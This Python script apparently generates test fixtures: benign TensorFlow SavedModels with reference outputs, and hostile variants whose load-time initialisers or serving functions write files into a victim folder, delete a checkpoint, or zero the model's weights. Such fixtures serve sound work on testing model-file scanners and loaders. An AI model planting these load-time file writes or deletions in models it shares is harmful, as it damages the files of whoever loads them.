"""Write SavedModels, good ones and hostile ones, and what the good ones compute.

    python saved_model_files.py FOLDER VICTIM

Nothing here runs what is hostile; TensorFlow would when it loads the model (`init_…`), or uses it.
"""

import os
import sys
from pathlib import Path

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"

import numpy as np
import tensorflow as tf
from tensorflow.python.trackable.resource import CapturableResource

v1 = tf.compat.v1
FOLDER, VICTIM = Path(sys.argv[1]), sys.argv[2]
ROW = tf.TensorSpec((None, 4), tf.float32, name="x")


def printing():
    tf.print("stolen", output_stream=f"file://{VICTIM}/printed")


def saving():
    tf.raw_ops.SaveV2(prefix=f"{VICTIM}/saved", tensor_names=["x"], shape_and_slices=[""], tensors=[tf.zeros((2, 2))])


def merging():
    """It would delete the victim's checkpoint."""
    tf.raw_ops.MergeV2Checkpoints(
        checkpoint_prefixes=[f"{VICTIM}/kept"], destination_prefix=f"{VICTIM}/moved", delete_old_dirs=True
    )


def summarising():
    writer = tf.raw_ops.SummaryWriter(shared_name="writer", container="")
    tf.raw_ops.CreateSummaryFileWriter(
        writer=writer, logdir=f"{VICTIM}/log", max_queue=1, flush_millis=1, filename_suffix=""
    )
    tf.raw_ops.WriteScalarSummary(writer=writer, step=tf.constant(1, tf.int64), tag="x", value=1.0)
    tf.raw_ops.FlushSummaryWriter(writer=writer)


def storing():
    """A dataset of its own, written to disk."""
    data = tf.data.Dataset.from_tensors(tf.constant("stolen"))
    tf.raw_ops.DatasetToTFRecord(input_dataset=data._variant_tensor, filename=f"{VICTIM}/records", compression_type="")


def writing():
    tf.io.write_file(f"{VICTIM}/written", "stolen")


ATTACKS = {"print": printing, "save": saving, "merge": merging, "summary": summarising, "dataset": storing,
           "write": writing}  # fmt: skip


class Initialised(CapturableResource):
    """A resource whose initialiser runs when the model is loaded."""

    def __init__(self, act):
        super().__init__()
        self._act = act

    def _create_resource(self):
        return tf.raw_ops.HashTableV2(key_dtype=tf.int64, value_dtype=tf.int64, shared_name="table")

    def _initialize(self):
        self._act()


def module(act=None, resource=None):
    """A matrix and a normalization, in functions that call each other."""
    made = tf.Module()
    rng = np.random.default_rng(0)
    made.matrix = tf.Variable(rng.normal(size=(4, 6)), dtype=tf.float32)
    made.scale = tf.Variable(rng.uniform(0.5, 1.5, 6), dtype=tf.float32)
    made.mean = tf.Variable(rng.normal(size=6), dtype=tf.float32)
    made.resource = resource

    @tf.function
    def normalised(x):
        y, *_ = v1.nn.fused_batch_norm(
            tf.reshape(x, (-1, 1, 1, 6)), made.scale, made.mean, made.mean, tf.abs(made.scale), is_training=False
        )
        return tf.reshape(y, (-1, 6))

    @tf.function(input_signature=[ROW])
    def serve(x):
        a, b = tf.split(normalised(x @ made.matrix), 2, 1)
        if act:
            act()
        return {"scores": tf.nn.softmax(b + 2 * a), "other": tf.nn.relu(a)}

    made.serve = serve
    return made


def save(name, made):
    tf.saved_model.save(made, str(FOLDER / name), signatures=made.serve)


def of_tensorflow_1(name, resource, act=None):
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, (None, 4), name="rows")
        matrix = v1.get_variable("dense/kernel", (4, 6), use_resource=resource)
        bias = v1.get_variable("dense/bias", (6,), use_resource=resource, initializer=v1.ones_initializer())
        y = tf.nn.softmax(x @ matrix + bias, name="scores")
        session.run(v1.global_variables_initializer())
        builder = v1.saved_model.builder.SavedModelBuilder(str(FOLDER / name))
        signature = v1.saved_model.predict_signature_def({"x": x}, {"scores": y})
        with tf.control_dependencies([act()] if act else []):
            first = tf.group(v1.tables_initializer())
        builder.add_meta_graph_and_variables(session, ["serve"], {"serving_default": signature}, main_op=first)
        builder.save()
        values = np.random.default_rng(1).normal(size=(3, 4)).astype(np.float32)
        np.savez(FOLDER / f"{name}.npz", x=values, y=session.run(y, {x: values}))


def main():
    good = module()
    x = np.random.default_rng(1).normal(size=(3, 4)).astype(np.float32)
    np.savez(FOLDER / "module.npz", x=x, y=good.serve(tf.constant(x))["scores"].numpy())
    save("module", good)
    of_tensorflow_1("references", False)
    of_tensorflow_1("resources", True)
    for name, act in ATTACKS.items():
        save(f"use_{name}", module(act))
        save(f"init_{name}", module(resource=Initialised(act)))
    of_tensorflow_1("first_write", True, lambda: tf.io.write_file(f"{VICTIM}/written", "stolen"))
    reassigned = module()
    reassigned.resource = Initialised(lambda: reassigned.matrix.assign(tf.zeros((4, 6))))
    save("reassigned", reassigned)


main()
